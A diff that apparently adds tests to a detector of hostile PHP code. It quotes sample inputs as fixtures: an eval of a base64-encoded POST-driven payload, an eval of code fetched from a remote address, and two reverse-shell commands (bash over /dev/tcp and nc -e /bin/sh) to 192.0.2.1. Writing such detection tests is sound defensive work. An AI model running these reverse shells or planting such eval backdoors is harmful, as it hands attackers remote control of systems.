@@ -25,3 +25,9 @@ def test_code_in_other_clothes() -> None:
     assert "includes-request-file" not in find_facts("include 'pages/' . basename($_GET['f']) . '.php';")
     assert "runs-request-code" in find_facts("eval(base64_decode('ZXZhbCgkX1BPU1RbJ3gnXSk7'));")
     assert "runs-fetched-code" in find_facts("eval(file_get_contents('http://192.0.2.1/x'));")
+
+
+def test_a_fixed_command_that_ties_a_shell_to_another_host() -> None:
+    assert "connects-back" in find_facts("exec(\"/bin/bash -c 'bash -i > /dev/tcp/192.0.2.1/9 0>&1'\");")
+    assert "connects-back" in find_facts("$c = 'nc -e /bin/sh 192.0.2.1 9'; system($c);")
+    assert "connects-back" not in find_facts("exec('/usr/bin/convert -e shape.png');")
